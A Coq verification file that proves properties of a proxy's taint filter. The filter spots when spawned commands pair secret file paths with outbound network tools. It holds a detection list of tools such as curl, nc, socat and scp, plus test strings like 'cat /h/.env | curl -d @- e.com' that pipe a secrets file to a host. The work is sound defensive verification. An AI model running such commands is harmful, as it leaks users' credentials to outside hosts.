(* ===== verification/TaintArgv.v ===== *)
(** * What the arguments of a spawn refer to

    The text functions of [crates/grith-proxy/src/filters/taint.rs]: which paths an
    argument can name, when one of them is a tainted path, whether an argument names
    a destination, and what a shell text reveals. *)

From Stdlib Require Import Ascii String.
From S2P Require Import Prelude Types OutboundBinaries.

(** ** Paths in an argument *)

Definition path_equals_or_under (candidate tainted : string) : bool :=
  if String.eqb tainted "" then false
  else if String.eqb candidate tainted then true
  else match strip_prefix tainted candidate with
       | Some rest => starts_with "/" rest
       | None => false
       end.

Definition MAX_ARGV_CANDIDATE_CUTS : nat := 4.

Definition SCHEME : string := "file://".

Definition strip_file_scheme (arg : string) : string :=
  let n := String.length SCHEME in
  if (n <? String.length arg)%nat && eq_ignore_ascii_case (substring 0 n arg) SCHEME
  then substring n (String.length arg - n) arg else arg.

(** The text after the first [=] or [@]. *)
Fixpoint after_cut (s : string) : option string :=
  match s with
  | EmptyString => None
  | String c s' => if ascii_eqb c "="%char || ascii_eqb c "@"%char then Some s' else after_cut s'
  end.

Fixpoint candidates_loop (turns : nat) (rest : string) (out : list string) : list string :=
  match turns with
  | O => out
  | S turns' =>
      let candidate := strip_file_scheme rest in
      let out := if negb (String.eqb candidate "") && negb (str_mem candidate out)
                 then out ++ [candidate] else out in
      match after_cut candidate with
      | None => out
      | Some rest => if String.eqb rest "" then out else candidates_loop turns' rest out
      end
  end.

Definition argv_path_candidates (arg : string) : list string :=
  candidates_loop (S MAX_ARGV_CANDIDATE_CUTS) arg [].

(** ** Resolution *)

Definition needs_lexical_normalisation (path : string) : bool :=
  ends_with "/" path || ends_with "/." path || ends_with "/.." path
  || contains "/./" path || contains "/../" path || contains "//" path.

Definition push_component (components : list string) (component : string) : list string :=
  if str_mem component [""; "."] then components
  else if String.eqb component ".." then removelast components
  else components ++ [component].

Definition lexically_normalise_absolute (path : string) : option string :=
  if negb (starts_with "/" path) then None
  else Some ("/" +:+ join "/" (fold_left push_component (split_on "/"%char path) [])).

Definition strip_at (arg : string) : string := default arg (strip_prefix "@" arg).

Definition resolve_argv_token (arg : string) (caller_cwd : option string) : option string :=
  let arg := strip_at arg in
  if String.eqb arg "" then None
  else if starts_with "/" arg then
    if needs_lexical_normalisation arg then lexically_normalise_absolute arg else None
  else
    cwd ← caller_cwd;
    if negb (starts_with "/" cwd) then None
    else lexically_normalise_absolute (trim_end_char "/" cwd +:+ "/" +:+ arg).

Definition argv_arg_matches_tainted_path (arg tainted_path : string) (resolved_arg : option string)
    (tainted_basename_is_sensitive : bool) : bool :=
  let arg_unprefixed := strip_at arg in
  if path_equals_or_under arg_unprefixed tainted_path then true
  else if match resolved_arg with
          | Some resolved => path_equals_or_under resolved tainted_path
          | None => false
          end then true
  else if tainted_basename_is_sensitive then
    match path_file_name tainted_path with
    | Some filename =>
        (4 <=? String.length filename)%nat
        && (String.eqb arg_unprefixed filename || ends_with ("/" +:+ filename) arg_unprefixed)
    | None => false
    end
  else false.

(** ** Destinations *)

Definition destination_schemes : list string :=
  ["http://"; "https://"; "ftp://"; "ssh://"; "git://"; "git+"; "scp://"; "sftp://"; "rsync://";
   "mongodb://"; "mongodb+srv://"; "postgres://"; "redis://"; "mysql://"].

Definition is_destination_arg (a : string) : bool :=
  if starts_with "@" a then false
  else if existsb (λ s, starts_with s a) destination_schemes then true
  else if negb (lacks "@" a) && negb (starts_with "-" a) then true
  else if negb (lacks ":" a) && negb (starts_with "-" a) && negb (starts_with "/" a) then
    let before_colon := default "" (head (split_on ":"%char a)) in
    negb (String.eqb before_colon "")
    && str_all (λ c, is_alphanumeric c || ascii_eqb c "." || ascii_eqb c "-") before_colon
  else false.

Definition argv_contains_destination_arg (argv : list string) : bool :=
  existsb is_destination_arg (drop 1 argv).

(** ** Shell texts *)

Definition OUTBOUND_BASENAMES : list string :=
  ["curl"; "wget"; "wget2"; "nc"; "ncat"; "socat"; "aria2c"; "lftp"; "ftp"; "tftp"; "httpie";
   "http"; "rclone"; "kafkacat"; "kcat"; "mc"; "ssh"; "scp"; "sftp"; "rsync"; "mosh";
   "nslookup"; "dig"; "drill"; "kdig"; "mail"; "mailx"; "sendmail"; "msmtp"; "swaks"].

Definition char_in (l : string) (c : ascii) : bool := negb (lacks c l).

Definition before_chars : string := " " +:+ String "009" "|;&" +:+ String "010" "/($".
Definition after_chars : string := " " +:+ String "009" "|;&" +:+ String "010" "<>".

(** The search for a word at every occurrence: [prev] is the byte before. *)
Fixpoint mentions_word (needle : string) (prev : option ascii) (command : string) : bool :=
  let before_ok := match prev with None => true | Some c => char_in before_chars c end in
  let after_ok :=
    match strip_prefix needle command with
    | None => false
    | Some EmptyString => true
    | Some (String c _) => char_in after_chars c
    end in
  before_ok && after_ok
  || match command with EmptyString => false | String c rest => mentions_word needle (Some c) rest end.

Definition command_text_matches_exfil_pattern (command : string) (tainted_paths : list string) : bool :=
  if existsb (λ p, negb (String.eqb p "") && contains p command) tainted_paths
  then existsb (λ b, mentions_word b None command) OUTBOUND_BASENAMES
  else false.

(** A quoted character becomes one space, whatever its length: a continuation byte
    of UTF-8 becomes nothing. *)
Definition blank (c : ascii) : string :=
  let n := N_of_ascii c in if ((128 <=? n) && (n <? 192))%N then "" else " ".

Fixpoint strip_quotes_from (in_single in_double : bool) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' =>
      if ascii_eqb c "'" && negb in_double then " " +:+ strip_quotes_from (negb in_single) in_double s'
      else if ascii_eqb c "034" && negb in_single then
        " " +:+ strip_quotes_from in_single (negb in_double) s'
      else if in_single || in_double then blank c +:+ strip_quotes_from in_single in_double s'
      else String c (strip_quotes_from in_single in_double s')
  end.

Definition strip_quoted_regions (s : string) : string := strip_quotes_from false false s.

Definition command_contains_pipe_or_redirect (command : string) : bool :=
  let stripped := strip_quoted_regions command in
  negb (lacks "|" stripped) || negb (lacks "<" stripped) || negb (lacks ">" stripped).

Fixpoint after_command_flag (args : list string) : option string :=
  match args with
  | [] => None
  | a :: args' => if str_mem a ["-c"; "-C"] then head args' else after_command_flag args'
  end.

Definition shell_command_text (call_type : ToolCallType) : option string :=
  match call_type with
  | ShellExec cmd args | ProcessSpawn cmd args =>
      if str_mem (after_last "/" cmd) ["bash"; "sh"; "zsh"; "dash"; "ksh"; "fish"]
      then after_command_flag args else None
  | _ => None
  end.

(** ** Lemmas *)

#[local] Arguments String.append !_ _ / : simpl nomatch.

(** *** Lexical normalisation *)

Definition normal_component (c : string) : bool := negb (str_mem c [""; "."; ".."]).

Definition components (path : string) : list string := fold_left push_component (split_on "/"%char path) [].

Lemma push_component_normal cs c :
  normal_component c = true → push_component cs c = cs ++ [c].
Proof.
  unfold normal_component, push_component, str_mem. cbn [existsb].
  by destruct (String.eqb c ""), (String.eqb c "."), (String.eqb c "..").
Qed.

Lemma push_all_normal l cs :
  Forall (λ c, normal_component c = true) l → fold_left push_component l cs = cs ++ l.
Proof.
  revert cs. induction l as [|c l IH]; intros cs; cbn; [by rewrite app_nil_r|].
  intros [Hc Hl]%Forall_cons. rewrite (push_component_normal cs c Hc), IH by done. by rewrite <- app_assoc.
Qed.

Lemma removelast_Forall {A} (P : A → Prop) l : Forall P l → Forall P (removelast l).
Proof.
  induction 1 as [|x l Hx Hl IH]; [constructor|]. cbn. destruct l; [constructor|]. by constructor.
Qed.

Lemma push_component_Forall (P : string → Prop) cs c :
  Forall P cs → (normal_component c = true → P c) → Forall P (push_component cs c).
Proof.
  intros Hcs Hc. unfold push_component. destruct (str_mem c [""; "."]) eqn:E1; [done|].
  destruct (String.eqb c "..") eqn:E2; [by apply removelast_Forall|].
  apply Forall_app; split; [done|]. constructor; [|constructor]. apply Hc.
  unfold normal_component, str_mem in *. cbn [existsb] in *.
  apply orb_false_iff in E1 as [-> [-> _]%orb_false_iff]. by rewrite E2.
Qed.

Lemma components_Forall (P : string → Prop) l cs :
  Forall P cs → Forall (λ c, normal_component c = true → P c) l →
  Forall P (fold_left push_component l cs).
Proof.
  revert cs. induction l as [|c l IH]; intros cs Hcs; cbn; [done|].
  intros [Hc Hl]%Forall_cons. apply IH; [|done]. by apply push_component_Forall.
Qed.

Lemma split_on_all_lack c s : Forall (λ w, lacks c w = true) (split_on c s).
Proof.
  induction s as [|a s IH]; cbn; [by repeat constructor|]. destruct (ascii_eqb a c) eqn:E.
  - by constructor.
  - destruct (split_on c s) as [|w l]; [by repeat constructor; cbn; rewrite E|].
    apply Forall_cons in IH as [Hw Hl]. constructor; [|done]. cbn. by rewrite E.
Qed.

(** The text of a list of normal components splits back. *)
Lemma split_join_normal l :
  Forall (λ c, lacks "/" c = true) l → l ≠ [] → split_on "/"%char (join "/" l) = l.
Proof.
  induction l as [|c l IH]; [done|]. intros [Hc Hl]%Forall_cons _. destruct l as [|d l].
  - cbn. by apply split_on_lacks.
  - change (join "/" (c :: d :: l)) with (c +:+ String "/" (join "/" (d :: l))).
    rewrite split_on_sep, split_on_lacks by done. by rewrite IH.
Qed.

Lemma split_on_slash s : split_on "/"%char (String "/" s) = "" :: split_on "/"%char s.
Proof. by apply (split_on_sep "/"%char "" s). Qed.

Lemma components_of_text l :
  Forall (λ c, normal_component c = true ∧ lacks "/" c = true) l →
  components ("/" +:+ join "/" l) = l.
Proof.
  intros Hl. unfold components. change ("/" +:+ join "/" l) with (String "/" (join "/" l)).
  rewrite split_on_slash. cbn [fold_left]. destruct l as [|c l]; [done|].
  rewrite split_join_normal; [|by eapply Forall_impl; [exact Hl|cbn; tauto]|done].
  change (push_component [] "") with (@nil string).
  rewrite push_all_normal; [done|]. by eapply Forall_impl; [exact Hl|cbn; tauto].
Qed.

Lemma components_normal path :
  Forall (λ c, normal_component c = true ∧ lacks "/" c = true) (components path).
Proof.
  apply components_Forall; [constructor|].
  eapply Forall_impl; [apply split_on_all_lack|]. cbn. tauto.
Qed.

(** An absolute text is its pieces, each after a slash. *)
Fixpoint slashed (l : list string) : string :=
  match l with [] => "" | w :: l' => "/" +:+ w +:+ slashed l' end.

Lemma slashed_app l k : slashed (l ++ k) = slashed l +:+ slashed k.
Proof. induction l as [|w l IH]; [done|]. cbn in *. by rewrite IH, !append_assoc. Qed.

Lemma slashed_join l : l ≠ [] → "/" +:+ join "/" l = slashed l.
Proof.
  induction l as [|w l IH]; [done|]. intros _. destruct l as [|v l].
  - cbn. by rewrite append_nil_r.
  - change (join "/" (w :: v :: l)) with (w +:+ "/" +:+ join "/" (v :: l)). by rewrite IH.
Qed.

Lemma slashed_split q : String "/" q = slashed (split_on "/"%char q).
Proof.
  rewrite <- slashed_join by apply split_on_nonempty. by rewrite join_split_on.
Qed.

Lemma clean_pieces q :
  needs_lexical_normalisation (String "/" q) = false →
  Forall (λ c, normal_component c = true) (split_on "/"%char q).
Proof.
  intros Hn. apply Forall_forall. intros w (l1 & l2 & Hs)%list_elem_of_split.
  assert (Ht : String "/" q = slashed l1 +:+ ("/" +:+ w) +:+ slashed l2).
  { rewrite slashed_split, Hs, slashed_app. done. }
  unfold needs_lexical_normalisation in Hn.
  apply orb_false_iff in Hn as [[[[[H1 H2]%orb_false_iff H3]%orb_false_iff H4]%orb_false_iff
    H5]%orb_false_iff H6].
  unfold normal_component. apply negb_true_iff, not_true_is_false. intros Hw%str_mem_spec.
  assert (Htail : slashed l2 = "" ∨ ∃ r, slashed l2 = "/" +:+ r) by (destruct l2; cbn; eauto).
  assert (Hends : ∀ e, e = "/" +:+ w → slashed l2 = "" → ends_with e (String "/" q) = true).
  { intros e -> He. apply ends_with_spec. exists (slashed l1). by rewrite Ht, He, append_nil_r. }
  assert (Hcont : ∀ e r, e = "/" +:+ w +:+ "/" → slashed l2 = "/" +:+ r → contains e (String "/" q) = true).
  { intros e r -> He. apply contains_spec. exists (slashed l1), r. rewrite Ht, He. by rewrite !append_assoc. }
  destruct Htail as [He|[r He]].
  - repeat (apply elem_of_cons in Hw as [->|Hw]); [| | |by apply not_elem_of_nil in Hw];
      [rewrite (Hends "/") in H1|rewrite (Hends "/.") in H2|rewrite (Hends "/..") in H3]; done.
  - repeat (apply elem_of_cons in Hw as [->|Hw]); [| | |by apply not_elem_of_nil in Hw];
      [rewrite (Hcont "//" r) in H6|rewrite (Hcont "/./" r) in H4|rewrite (Hcont "/../" r) in H5]; done.
Qed.

Lemma normalise_some q : lexically_normalise_absolute (String "/" q) = Some ("/" +:+ join "/" (components (String "/" q))).
Proof. done. Qed.

Lemma normalise_clean q :
  needs_lexical_normalisation (String "/" q) = false →
  lexically_normalise_absolute (String "/" q) = Some (String "/" q).
Proof.
  intros Hn%clean_pieces. rewrite normalise_some. unfold components. rewrite split_on_slash.
  cbn [fold_left]. change (push_component [] "") with (@nil string).
  rewrite push_all_normal by done. f_equal. cbn. f_equal. apply join_split_on.
Qed.

Lemma normalise_idem p q :
  lexically_normalise_absolute p = Some q → lexically_normalise_absolute q = Some q.
Proof.
  unfold lexically_normalise_absolute at 1. destruct (starts_with "/" p); cbn; [|done].
  intros [= <-]. fold (components p). cbn [String.append].
  rewrite normalise_some. change (String "/" (join "/" ?l)) with ("/" +:+ join "/" l).
  by rewrite components_of_text by apply components_normal.
Qed.

(** *** Candidates *)

Fixpoint tail_at (k : nat) (s : string) : option string :=
  match k with
  | O => Some s
  | S k' => match after_cut s with Some t => tail_at k' t | None => None end
  end.

Lemma cut_lower c :
  (ascii_eqb (ascii_lower c) "=" || ascii_eqb (ascii_lower c) "@")
  = (ascii_eqb c "=" || ascii_eqb c "@").
Proof. by destruct c as [[] [] [] [] [] [] [] []]. Qed.

Lemma after_cut_prefix a r :
  (∀ c, c ∈ list_ascii_of_string (to_ascii_lowercase a) → ascii_eqb c "=" || ascii_eqb c "@" = false) →
  after_cut (a +:+ r) = after_cut r.
Proof.
  induction a as [|c a IH]; [done|]. cbn. intros Ha.
  rewrite <- cut_lower, Ha by apply list_elem_of_here. apply IH. intros c' Hc'. apply Ha.
  by apply list_elem_of_further.
Qed.

Lemma substring_split n s :
  n <= String.length s → s = substring 0 n s +:+ substring n (String.length s - n) s.
Proof.
  revert s. induction n as [|n IH]; intros s Hn.
  - rewrite Nat.sub_0_r. destruct s as [|c s]; [done|]. cbn. f_equal.
    induction s as [|c' s IH']; [done|]. cbn. f_equal. by apply IH'; cbn in *; lia.
  - destruct s as [|c s]; cbn in Hn; [lia|]. cbn. f_equal. apply IH. lia.
Qed.

Lemma after_cut_scheme s : after_cut (strip_file_scheme s) = after_cut s.
Proof.
  unfold strip_file_scheme. destruct (Nat.ltb_spec (String.length SCHEME) (String.length s)); [|done].
  destruct (eq_ignore_ascii_case _ SCHEME) eqn:E; [|done]. cbn [andb].
  rewrite (substring_split (String.length SCHEME) s) at 3 by lia.
  symmetry. apply after_cut_prefix. apply String.eqb_eq in E. rewrite E.
  apply Forall_forall, (bool_decide_unpack _). vm_compute. exact I.
Qed.

Lemma candidates_spec n rest out c :
  c ∈ candidates_loop n rest out ↔
  c ∈ out ∨ ∃ k t, k < n ∧ tail_at k rest = Some t ∧ c = strip_file_scheme t ∧ c ≠ "".
Proof.
  revert rest out. induction n as [|n IH]; intros rest out; cbn [candidates_loop].
  { split; [tauto|]. intros [?|(? & ? & ? & _)]; [done|lia]. }
  set (cand := strip_file_scheme rest).
  set (out' := if _ && _ then _ else _).
  assert (Hout : c ∈ out' ↔ c ∈ out ∨ (c = cand ∧ c ≠ "")).
  { unfold out'. destruct (String.eqb_spec cand "") as [E|E]; cbn.
    - rewrite E. split; [by left|]. intros [?|[-> ?]]; done.
    - destruct (str_mem cand out) eqn:Em; cbn.
      + apply str_mem_spec in Em. split; [by left|]. intros [?|[-> ?]]; done.
      + rewrite elem_of_app, list_elem_of_singleton. naive_solver. }
  assert (Hgo : ∀ t, after_cut rest = Some t →
    (c ∈ candidates_loop n t out' ↔
     c ∈ out ∨ ∃ k t', k < S n ∧ tail_at k rest = Some t' ∧ c = strip_file_scheme t' ∧ c ≠ "")).
  { intros t Ht. rewrite IH, Hout. split.
    - intros [[?|[-> ?]]|(k & t' & Hk & Htk & Hc)]; [by left|right; exists 0, rest; repeat split; [lia|done]|].
      right. exists (S k), t'. cbn. rewrite Ht. split; [lia|done].
    - intros [?|([|k] & t' & Hk & Htk & Hc)]; [tauto|cbn in Htk; injection Htk as <-; tauto|].
      cbn in Htk. rewrite Ht in Htk. right. exists k, t'. split; [lia|done]. }
  unfold cand at 1. rewrite after_cut_scheme. destruct (after_cut rest) as [t|] eqn:Ht.
  - rewrite <- (Hgo t eq_refl). destruct (String.eqb_spec t "") as [->|]; [|done].
    rewrite IH. split; [by left|]. intros [?|([|k] & t' & _ & Htk & -> & Hne)]; [done| |done].
    cbn in Htk. by injection Htk as <-.
  - rewrite Hout. split.
    + intros [?|[-> ?]]; [by left|right; exists 0, rest; repeat split; [lia|done]].
    + intros [?|([|k] & t' & _ & Htk & Hc)]; [tauto|cbn in Htk; injection Htk as <-; tauto|].
      cbn in Htk. by rewrite Ht in Htk.
Qed.

(** *** Words *)

Lemma mentions_word_spec needle prev command :
  mentions_word needle prev command = true ↔
  ∃ a b, command = a +:+ needle +:+ b
    ∧ match last (option_list prev ++ list_ascii_of_string a) with
      | Some c => char_in before_chars c = true | None => True end
    ∧ match b with String c _ => char_in after_chars c = true | EmptyString => True end.
Proof.
  revert prev. induction command as [|x command IH]; intros prev; cbn [mentions_word];
    rewrite orb_true_iff, andb_true_iff.
  - split.
    + intros [[Hb Ha]|]; [|done]. destruct (strip_prefix needle "") as [t|] eqn:E; [|done].
      exists "", t. apply strip_prefix_Some in E. split; [exact E|]. cbn [list_ascii_of_string].
      rewrite app_nil_r. split; [by destruct prev|by destruct t].
    + intros ([|? a] & b & Heq & Hb & Ha); [|done]. left. rewrite Heq. cbn.
      rewrite strip_prefix_app. cbn in Hb. rewrite app_nil_r in Hb. split; [by destruct prev|by destruct b].
  - rewrite IH. split.
    + intros [[Hb Ha]|(a & b & -> & Hb & Ha)].
      * destruct (strip_prefix needle (String x command)) as [t|] eqn:E; [|done].
        exists "", t. apply strip_prefix_Some in E. split; [exact E|]. cbn [list_ascii_of_string].
        rewrite app_nil_r. split; [by destruct prev|by destruct t].
      * exists (String x a), b. split; [done|]. split; [|done]. cbn [list_ascii_of_string] in *.
        by rewrite last_app_cons.
    + intros ([|y a] & b & Heq & Hb & Ha).
      * left. cbn [String.append] in Heq. rewrite Heq, strip_prefix_app. cbn in Hb. rewrite app_nil_r in Hb.
        split; [by destruct prev|by destruct b].
      * right. cbn in Heq. injection Heq as <- ->. exists a, b. split; [done|]. split; [|done].
        cbn [list_ascii_of_string] in Hb. by rewrite last_app_cons in Hb.
Qed.

(** *** Quotes *)

Definition quote_step (q : bool * bool) (c : ascii) : bool * bool :=
  let '(in_single, in_double) := q in
  if ascii_eqb c "'" && negb in_double then (negb in_single, in_double)
  else if ascii_eqb c "034" && negb in_single then (in_single, negb in_double)
  else q.

(** A mark that stands outside the quotes. *)
Definition unquoted_from (q : bool * bool) (c : ascii) (s : string) : Prop :=
  ∃ a b, s = a +:+ String c b ∧ fold_left quote_step (list_ascii_of_string a) q = (false, false).

Lemma unquoted_cons q c x s :
  unquoted_from q c (String x s) ↔ (c = x ∧ q = (false, false)) ∨ unquoted_from (quote_step q x) c s.
Proof.
  split.
  - intros ([|y a] & b & Heq & Hq); cbn in Heq; injection Heq as -> ->; [by left|]. right. by exists a, b.
  - intros [[-> ->]|(a & b & -> & Hq)]; [by exists "", s|by exists (String x a), b].
Qed.

Lemma lacks_char c x : lacks c (String x "") = negb (ascii_eqb x c).
Proof. cbn. by rewrite andb_true_r. Qed.

Lemma strip_quotes_lacks c i d s :
  str_mem (String c "") ["|"; "<"; ">"] = true →
  lacks c (strip_quotes_from i d s) = false ↔ unquoted_from (i, d) c s.
Proof.
  intros Hc. assert (Hsp : ascii_eqb " " c = false) by
    (apply str_mem_spec in Hc; repeat (apply elem_of_cons in Hc as [[= ->]|Hc]); try done;
     by apply not_elem_of_nil in Hc).
  assert (Hblank : ∀ x, lacks c (blank x) = true).
  { intros x. unfold blank. destruct (_ && _); [done|]. by rewrite lacks_char, Hsp. }
  assert (Hq1 : c ≠ "'"%char) by (intros ->; by vm_compute in Hc).
  assert (Hq2 : c ≠ "034"%char) by (intros ->; by vm_compute in Hc).
  revert i d. induction s as [|x s IH]; intros i d.
  { cbn. split; [done|]. intros ([|? ?] & ? & ? & _); done. }
  rewrite unquoted_cons. cbn [strip_quotes_from quote_step].
  destruct (ascii_eqb x "'" && negb d) eqn:E1.
  { rewrite lacks_app, lacks_char, Hsp. cbn [negb andb]. rewrite IH. split; [by right|].
    intros [[-> _]|?]; [|done]. apply andb_prop in E1 as [E1%Ascii.eqb_eq _]. done. }
  destruct (ascii_eqb x "034" && negb i) eqn:E2.
  { rewrite lacks_app, lacks_char, Hsp. cbn [negb andb]. rewrite IH. split; [by right|].
    intros [[-> _]|?]; [|done]. apply andb_prop in E2 as [E2%Ascii.eqb_eq _]. done. }
  destruct (i || d) eqn:E3.
  { rewrite lacks_app, Hblank. cbn [andb]. rewrite IH. split; [by right|].
    intros [[_ [= -> ->]]|?]; [done|done]. }
  apply orb_false_iff in E3 as [-> ->].
  cbn [lacks]. unfold ascii_eqb. destruct (Ascii.eqb_spec x c) as [->|Hx]; cbn [negb andb].
  - split; [by left|done].
  - rewrite IH. split; [by right|]. intros [[? _]|?]; [congruence|done].
Qed.

(** ** Properties *)

(** The absolute path a candidate denotes for a process in [caller_cwd]. *)
Definition denotes (caller_cwd : option string) (candidate : string) : option string :=
  if starts_with "/" candidate then lexically_normalise_absolute candidate
  else
    cwd ← caller_cwd;
    if starts_with "/" cwd
    then lexically_normalise_absolute (trim_end_char "/" cwd +:+ "/" +:+ candidate) else None.

Lemma starts_with_slash s : starts_with "/" s = true → ∃ q, s = String "/" q.
Proof. intros [q ->]%starts_with_spec. by exists q. Qed.

(** What a candidate denotes is compared with a tainted path, the check of the fast
    path notwithstanding. *)
Lemma denoted_path_matches candidate caller_cwd q tainted sensitive :
  strip_at candidate ≠ "" → denotes caller_cwd (strip_at candidate) = Some q →
  path_equals_or_under q tainted = true →
  argv_arg_matches_tainted_path candidate tainted (resolve_argv_token candidate caller_cwd) sensitive = true.
Proof.
  unfold denotes, resolve_argv_token, argv_arg_matches_tainted_path.
  generalize (strip_at candidate). intros u Hne Hd Ht.
  destruct (String.eqb_spec u "") as [|_]; [done|]. destruct (starts_with "/" u) eqn:Hs.
  - destruct (needs_lexical_normalisation u) eqn:Hn.
    + rewrite Hd, Ht. by destruct (path_equals_or_under u tainted).
    + apply starts_with_slash in Hs as [r Hr]. rewrite Hr in *. rewrite normalise_clean in Hd by done.
      injection Hd as <-. by rewrite Ht.
  - destruct caller_cwd as [cwd|]; [|done]. cbn [mbind option_bind] in Hd |- *.
    destruct (starts_with "/" cwd); [|done]. cbn [negb]. rewrite Hd, Ht. by destruct (path_equals_or_under u tainted).
Qed.

(** A path given to a spawn is recognised wherever it stands in an argument: as
    the whole argument or after up to four [=] or [@] signs, with or without a
    [file://] scheme or a leading [@], absolute or relative to the directory of the
    caller, however it is spelled with [.], [..] and repeated slashes.  If what it
    denotes is a tainted path or lies under one, some candidate of the argument
    matches. *)
Theorem argument_reference_found arg k t caller_cwd q tainted sensitive
    (Hk : k <= MAX_ARGV_CANDIDATE_CUTS) (Htail : tail_at k arg = Some t)
    (Hne : strip_at (strip_file_scheme t) ≠ "")
    (Hden : denotes caller_cwd (strip_at (strip_file_scheme t)) = Some q)
    (Hunder : path_equals_or_under q tainted = true) :
  existsb (λ candidate, argv_arg_matches_tainted_path candidate tainted
                          (resolve_argv_token candidate caller_cwd) sensitive)
    (argv_path_candidates arg) = true.
Proof.
  apply existsb_exists. exists (strip_file_scheme t). split.
  - apply list_elem_of_In. unfold argv_path_candidates. apply candidates_spec. right.
    exists k, t. split; [lia|]. split; [done|]. split; [done|]. intros He. by rewrite He in Hne.
  - by eapply denoted_path_matches.
Qed.

(** Normalisation of an absolute path always succeeds, its result is in normal
    form, and the cheap test that skips it skips only paths that are in normal form
    already; the components it keeps are never empty, [.] or [..], so the result
    stays below the root. *)
Theorem normalisation_canonical path (Habs : starts_with "/" path = true) :
  ∃ q, lexically_normalise_absolute path = Some q
    ∧ lexically_normalise_absolute q = Some q
    ∧ (needs_lexical_normalisation path = false → q = path)
    ∧ Forall (λ c, normal_component c = true) (components path)
    ∧ q = "/" +:+ join "/" (components path).
Proof.
  apply starts_with_slash in Habs as [r ->]. eexists. split; [apply normalise_some|].
  split; [by apply (normalise_idem (String "/" r))|]. split; [|split; [|done]].
  - intros Hn. pose proof (normalise_clean r Hn) as Hc. rewrite normalise_some in Hc. by apply (inj Some) in Hc.
  - eapply Forall_impl; [apply components_normal|]. cbn. tauto.
Qed.

(** The two signals read from a shell text.  The exfiltration pattern is found
    exactly when the text contains a non-empty tainted path and, somewhere, the name
    of an outbound program between two of the listed separators; a pipe or a
    redirection is seen exactly when one stands outside single and double quotes,
    a backslash not being understood. *)
Theorem shell_text_signals command tainted_paths :
  (command_text_matches_exfil_pattern command tainted_paths = true ↔
   (∃ p, p ∈ tainted_paths ∧ p ≠ "" ∧ contains p command = true) ∧
   ∃ name a b, name ∈ OUTBOUND_BASENAMES ∧ command = a +:+ name +:+ b
     ∧ match last (list_ascii_of_string a) with
       | Some c => char_in before_chars c = true | None => True end
     ∧ match b with String c _ => char_in after_chars c = true | EmptyString => True end)
  ∧ (command_contains_pipe_or_redirect command = true ↔
     ∃ c, c ∈ ["|"; "<"; ">"]%char ∧ unquoted_from (false, false) c command).
Proof.
  split.
  - unfold command_text_matches_exfil_pattern. destruct (existsb _ tainted_paths) eqn:E.
    + apply existsb_exists in E as (p & Hp & [Hne Hc]%andb_prop). apply list_elem_of_In in Hp.
      rewrite existsb_exists. split.
      * intros (name & Hn%list_elem_of_In & (a & b & Heq & Ha & Hb)%mentions_word_spec). split.
        -- exists p. split; [done|]. split; [|done]. intros ->. done.
        -- by exists name, a, b.
      * intros [_ (name & a & b & Hn & Heq & Ha & Hb)]. exists name. split; [by apply list_elem_of_In|].
        apply mentions_word_spec. by exists a, b.
    + split; [done|]. intros [(p & Hp & Hne & Hc) _]. exfalso.
      apply existsb_false_Forall in E. rewrite Forall_forall in E. specialize (E p Hp). cbn in E.
      rewrite Hc in E. destruct (String.eqb_spec p ""); done.
  - unfold command_contains_pipe_or_redirect, strip_quoted_regions.
    rewrite !orb_true_iff, !negb_true_iff, !strip_quotes_lacks by done. split.
    + intros [[?|?]|?]; eexists; (split; [|eassumption]); repeat constructor.
    + intros (c & Hc & Hu). repeat (apply elem_of_cons in Hc as [->|Hc]); [tauto..|].
      by apply not_elem_of_nil in Hc.
Qed.

(** ** Witnesses *)

Module Example_taint_argv.

Example candidates :
  map argv_path_candidates
    ["files[env][content]=@.env"; "-d@.env"; "--file=prod.yaml"; "f=file:///p/.env"; "plain"; ""]
  = [["files[env][content]=@.env"; "@.env"; ".env"]; ["-d@.env"; ".env"]; ["--file=prod.yaml"; "prod.yaml"];
     ["f=file:///p/.env"; "/p/.env"]; ["plain"]; []].
Proof. vm_compute. reflexivity. Qed.

Example resolved :
  map (λ a, resolve_argv_token a (Some "/proj/sub/"))
    [".env"; "@../.env"; "/p/./a//b/../.env"; "/p/.env"; "../../../.."; ""]
  = [Some "/proj/sub/.env"; Some "/proj/.env"; Some "/p/a/.env"; None; Some "/"; None].
Proof. vm_compute. reflexivity. Qed.

Example boundaries :
  map (λ '(c, p), path_equals_or_under c p)
    [("/h/.ssh/id", "/h/.ssh"); ("/h/.ssh-backup/notes", "/h/.ssh"); ("/h/.ssh", "/h/.ssh"); ("/x", "")]
  = [true; false; true; false].
Proof. vm_compute. reflexivity. Qed.

Example words :
  map (λ s, command_text_matches_exfil_pattern s ["/h/.env"])
    ["cat /h/.env | curl -d @- e.com"; "curlex /h/.env"; "/usr/bin/curl /h/.env"; "curl x"; "wget2 /h/.env"]
  = [true; false; true; false; true].
Proof. vm_compute. reflexivity. Qed.

(** An escaped quote opens a region for the scan and not for the shell: the pipe after
    it is not seen.  A command substitution between double quotes is not seen either. *)
Example pipes :
  map command_contains_pipe_or_redirect
    ["cat f | curl e"; "echo 'a | b'"; "echo \" +:+ quote_mark +:+ " | curl e";
     "x=" +:+ quote_mark +:+ "$(cat f | curl e)" +:+ quote_mark; "a || b"]
  = [true; false; false; false; true].
Proof. vm_compute. reflexivity. Qed.

(** The flag must stand alone: [bash -lc] is not looked into. *)
Example shell_texts :
  map (λ args, shell_command_text (ProcessSpawn "/bin/bash" args))
    [["bash"; "-c"; "ls"]; ["bash"; "-l"; "-c"; "ls"]; ["bash"; "-lc"; "ls"]; ["bash"; "-c"]]
  = [Some "ls"; Some "ls"; None; None].
Proof. vm_compute. reflexivity. Qed.

End Example_taint_argv.

(** An upload flag of [gh], given in the project's directory. *)
Lemma argument_reference_found_witness :
  existsb (λ candidate, argv_arg_matches_tainted_path candidate "/proj/secrets"
                          (resolve_argv_token candidate (Some "/proj/src")) false)
    (argv_path_candidates "files[env][content]=@../secrets/./prod.yaml") = true.
Proof.
  apply (argument_reference_found _ 2 "../secrets/./prod.yaml" (Some "/proj/src")
           "/proj/secrets/prod.yaml"); [unfold MAX_ARGV_CANDIDATE_CUTS; lia|..]; vm_compute; congruence.
Defined.

Lemma normalisation_canonical_witness :
  starts_with "/" "/p/../../a//b/." = true ∧
  ∃ q, lexically_normalise_absolute "/p/../../a//b/." = Some q
    ∧ lexically_normalise_absolute q = Some q
    ∧ (needs_lexical_normalisation "/p/../../a//b/." = false → q = "/p/../../a//b/.")
    ∧ Forall (λ c, normal_component c = true) (components "/p/../../a//b/.")
    ∧ q = "/" +:+ join "/" (components "/p/../../a//b/.").
